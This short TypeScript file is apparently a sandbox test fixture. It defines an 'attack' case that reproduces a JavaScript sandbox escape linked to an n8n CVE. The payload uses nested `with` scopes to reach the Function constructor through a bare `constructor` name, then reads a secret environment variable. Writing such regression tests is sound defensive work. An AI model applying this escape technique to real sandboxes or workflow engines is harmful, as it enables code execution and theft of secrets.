import { attack } from '../attack.ts';

/** A bare name inside `with`: the scope object's own `constructor` answers, and no member expression is there to see (n8n CVE-2026-1470). */
export const escape = attack({
	grants: [],
	input: () => ({ step: ['a'] }),
	source: `
		return Function('scope', 'code', 'with (scope) { with (constructor) { return constructor(code)() } }')(input.step, 'return typeof process === "object" ? process.env.GLOVEBOX_SECRET : 1');
	`,
});
